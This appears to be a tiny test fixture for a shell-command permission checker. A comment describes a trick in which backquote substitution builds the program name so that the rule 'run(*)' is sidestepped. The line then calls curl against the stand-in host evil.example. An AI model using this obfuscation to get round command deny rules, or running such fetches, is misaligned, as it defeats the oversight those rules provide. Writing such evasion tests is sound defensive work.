# Trick: the program is printed by a substitution in backquotes.
# Refused: run(*)
`echo curl` http://evil.example/
